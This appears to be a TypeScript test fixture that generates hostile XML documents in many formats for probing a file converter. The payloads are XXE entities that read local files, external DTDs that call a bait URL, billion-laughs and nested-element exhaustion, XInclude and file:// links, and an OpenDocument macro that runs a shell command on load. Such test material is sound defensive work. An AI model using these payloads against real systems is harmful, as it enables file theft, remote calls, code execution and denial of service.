/** XML that reads files by entities and includes, calls addresses, and unfolds without an end: in every format made of it. */
import type { Bait } from '../kit/bait.ts';
import { type Aim, type HostileInput, input } from './input.ts';

/** An entity `x` that is a file. */
export const entity = (bait: Bait) => `<!DOCTYPE x [
<!ENTITY x SYSTEM "file://${bait.file('txt')}">
<!ENTITY called SYSTEM "${bait.url}/entity">]>`;

/** Declarations that are elsewhere, and would put a file into an address. */
const elsewhere = (bait: Bait) => `<!DOCTYPE x SYSTEM "${bait.url}/x.dtd" [
<!ENTITY % file SYSTEM "file://${bait.file('txt')}">
<!ENTITY % remote SYSTEM "${bait.url}/dtd"> %remote;
<!ENTITY x "x"><!ENTITY called "">]>`;

const LEVELS = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index} "${`&l${index + 1};`.repeat(10)}">`,
);

/** An entity `x` of a thousand million words. */
export const LAUGHS = `<!DOCTYPE x [<!ENTITY l9 "lollollol">${LEVELS.join('')}<!ENTITY x "&l0;"><!ENTITY called "">]>`;

/** A document of a format around a text, behind its declarations. */
const DOCUMENTS: Readonly<
  Record<
    string,
    readonly [extension: string, targets: readonly string[], document: (text: string, bait: Bait) => string]
  >
> = {
  fb2: [
    'fb2',
    ['epub', 'txt'],
    (text) =>
      `<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.org/1999/xlink"><description><title-info><genre>sf</genre><author><first-name>A</first-name></author><book-title>${text}</book-title><lang>en</lang></title-info></description><body><section><p>${text}</p><image l:href="file:///etc/hostname"/></section></body></FictionBook>`,
  ],
  docbook: [
    'docbook',
    ['html', 'docx'],
    (text, bait) =>
      `<article xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude" version="5.0"><title>${text}</title><para>${text}<xi:include href="file://${bait.file('txt')}" parse="text"/></para></article>`,
  ],
  jats: [
    'jats',
    ['html', 'md'],
    (text) =>
      `<article xmlns:xi="http://www.w3.org/2001/XInclude"><front><article-meta><title-group><article-title>${text}</article-title></title-group></article-meta></front><body><p>${text}</p></body></article>`,
  ],
  opml: [
    'opml',
    ['html', 'md'],
    (text, bait) =>
      `<opml version="2.0"><head><title>${text}</title></head><body><outline text="${text.replace('&x;', 'x')}" _note="${bait.url}"/></body></opml>`,
  ],
  gpx: [
    'gpx',
    ['geojson', 'csv'],
    (text) =>
      `<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1" creator="x"><wpt lat="1" lon="2"><name>${text}</name></wpt></gpx>`,
  ],
  kml: [
    'kml',
    ['geojson', 'csv'],
    (text, bait) =>
      `<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>${bait.url}/link.kml</href></Link></NetworkLink><NetworkLink><Link><href>file://${bait.file('xml')}</href></Link></NetworkLink><Placemark><name>${text}</name><Point><coordinates>1,2</coordinates></Point></Placemark></Document></kml>`,
  ],
  gml: [
    'gml',
    ['geojson', 'csv'],
    (text, bait) =>
      `<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://ogr.maptools.org/ ${bait.url}/schema.xsd"><gml:featureMember><ogr:place fid="a"><ogr:geometryProperty xlink:href="${bait.url}/geometry"><gml:Point><gml:coordinates>1,2</gml:coordinates></gml:Point></ogr:geometryProperty><ogr:name>${text}</ogr:name></ogr:place></gml:featureMember></ogr:FeatureCollection>`,
  ],
  xml: [
    'xml',
    ['json', 'csv'],
    (text) => `<table><row><name>${text}</name></row><row><name>b</name></row></table>`,
  ],
  plist: [
    'plist',
    ['json', 'yaml'],
    (text) => `<plist version="1.0"><dict><key>name</key><string>${text}</string></dict></plist>`,
  ],
  xspf: [
    'xspf',
    ['m3u', 'csv'],
    (text) =>
      `<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${text}</location><title>${text}</title></track></trackList></playlist>`,
  ],
  ttml: [
    'ttml',
    ['srt', 'vtt'],
    (text) =>
      `<tt xmlns="http://www.w3.org/ns/ttml" xml:lang="en"><body><div><p begin="0s" end="2s">${text}</p></div></body></tt>`,
  ],
  dae: [
    'dae',
    ['obj', 'stl'],
    (text, bait) =>
      `<COLLADA xmlns="http://www.collada.org/2005/11/COLLADASchema" version="1.4.1"><asset><contributor><author>${text}</author></contributor></asset><library_images><image id="i"><init_from>file://${bait.file('png')}</init_from></image></library_images><library_geometries><geometry id="g" name="${text.replace('&x;', 'x')}"><mesh><source id="p"><float_array id="a" count="9">0 0 0 1 0 0 0 1 0</float_array><technique_common><accessor source="#a" count="3" stride="3"><param name="X" type="float"/><param name="Y" type="float"/><param name="Z" type="float"/></accessor></technique_common></source><vertices id="v"><input semantic="POSITION" source="#p"/></vertices><triangles count="1"><input semantic="VERTEX" source="#v" offset="0"/><p>0 1 2</p></triangles></mesh></geometry></library_geometries><library_visual_scenes><visual_scene id="s"><node id="n"><instance_geometry url="#g"/></node></visual_scene></library_visual_scenes><scene><instance_visual_scene url="#s"/></scene></COLLADA>`,
  ],
  x3d: [
    'x3d',
    ['obj', 'stl'],
    (text, bait) =>
      `<X3D version="3.3"><head><meta name="title" content="t"/></head><Scene><Inline url='"file://${bait.file('xml')}" "${bait.url}/inline.x3d"'/><Shape><Appearance><ImageTexture url='"file://${bait.file('png')}"'/></Appearance><IndexedFaceSet coordIndex="0 1 2 -1"><Coordinate point="0 0 0 1 0 0 0 1 0"/></IndexedFaceSet></Shape><WorldInfo info='"${text.replace('&x;', 'x')}"'/></Scene></X3D>`,
  ],
  svg: [
    'svg',
    ['png', 'pdf', 'emf'],
    (
      text,
      bait,
    ) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="200" height="100">
<style>@import url("${bait.url}/style.css"); @import url("file://${bait.file('txt')}");</style>
<image xlink:href="file://${bait.file('png')}" width="64" height="64"/><image x="64" href="${bait.file('png')}" width="64" height="64"/>
<image xlink:href="${bait.url}/image.png" width="64" height="64"/><use xlink:href="file://${bait.file('xml')}#x"/>
<filter id="f"><feImage xlink:href="file://${bait.file('png')}"/></filter><rect x="128" width="64" height="64" filter="url(#f)"/>
<xi:include href="file://${bait.file('txt')}" parse="text"/><text y="50"><xi:include href="${bait.file('txt')}" parse="text"/>${text}</text>
<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${bait.file('html')}"/></foreignObject>
<script xlink:href="${bait.url}/script.js"/></svg>`,
  ],
  fodt: [
    'fodt',
    ['pdf', 'docx', 'txt'],
    (
      text,
      bait,
    ) => `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ooo="http://openoffice.org/2004/office" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Main
Shell("touch ${bait.target('basic')}")
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>
<office:body><office:text><text:p>${text}</text:p>
<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="file://${bait.file('png')}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${bait.url}/image.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>
<text:section text:name="s" text:protected="true"><text:section-source xlink:href="file://${bait.file('txt')}" xlink:type="simple" text:filter-name="Text"/><text:p>old</text:p></text:section>
<text:p><draw:frame svg:width="9cm" svg:height="2cm"><draw:floating-frame xlink:href="file://${bait.file('html')}" xlink:type="simple"/></draw:frame></text:p>
<text:p><draw:frame svg:width="9cm" svg:height="2cm"><draw:plugin xlink:href="${bait.url}/plugin" xlink:type="simple"/></draw:frame></text:p></office:text></office:body></office:document>`,
  ],
};

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';

/** A document of each format, whose text is an entity. */
function hostile(aim: Aim, what: string, declare: (bait: Bait) => string): HostileInput[] {
  return Object.entries(DOCUMENTS).map(([from, [extension, [first = '', ...others], document]]) =>
    input(
      aim,
      `${what}, as ${from}`,
      `entity.${extension}`,
      [from, first, ...others.slice(0, aim === 'read' ? 2 : 0)],
      (bait) => DECLARATION + declare(bait) + document('&x;&called;', bait),
    ),
  );
}

/** The same documents without entities, which some readers refuse before they look at the rest. */
const PLAIN = ['kml', 'gml', 'dae', 'x3d', 'svg', 'fodt', 'docbook'];

export const xml: readonly HostileInput[] = [
  ...hostile('read', 'a document with an entity that is a file', entity),
  ...hostile('call', 'a document whose declarations are elsewhere', elsewhere),
  ...hostile('exhaust', 'a document with an entity of a thousand million words', () => LAUGHS),
  ...PLAIN.flatMap((from) => {
    const [extension, [first = '', ...others], document] = DOCUMENTS[from] ?? ['', [], () => ''];
    return input(
      'read',
      `a document with links to files and addresses, as ${from}`,
      `links.${extension}`,
      [from, first, ...others],
      (bait) => DECLARATION + document('text', bait),
    );
  }),
  input(
    'exhaust',
    'XML with a million nested elements',
    'deep.xml',
    ['xml', 'json', 'csv'],
    () => `<table>${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}</table>`,
  ),
  input(
    'exhaust',
    'XML with a million attributes',
    'wide.xml',
    ['xml', 'json', 'csv'],
    () =>
      `<table><row ${Array.from({ length: 1_000_000 }, (_, index) => `a${index}="x"`).join(' ')}/></table>`,
  ),
  input(
    'exhaust',
    'a drawing that uses itself a thousand million times',
    'use.svg',
    ['svg', 'png', 'pdf'],
    () => {
      const levels = Array.from(
        { length: 9 },
        (_, level) => `<g id="g${level}">${`<use xlink:href="#g${level + 1}"/>`.repeat(10)}</g>`,
      );
      return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><defs>${levels.join('')}<g id="g9"><path d="M0 0L9 9"/></g></defs><use xlink:href="#g0"/></svg>`;
    },
  ),
  input(
    'exhaust',
    'a drawing of 1,000,000 by 1,000,000 pixels',
    'wide.svg',
    ['svg', 'png', 'jpg'],
    () =>
      '<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"><filter id="f"><feGaussianBlur stdDeviation="9999"/></filter><rect width="100%" height="100%" filter="url(#f)"/></svg>',
  ),
];
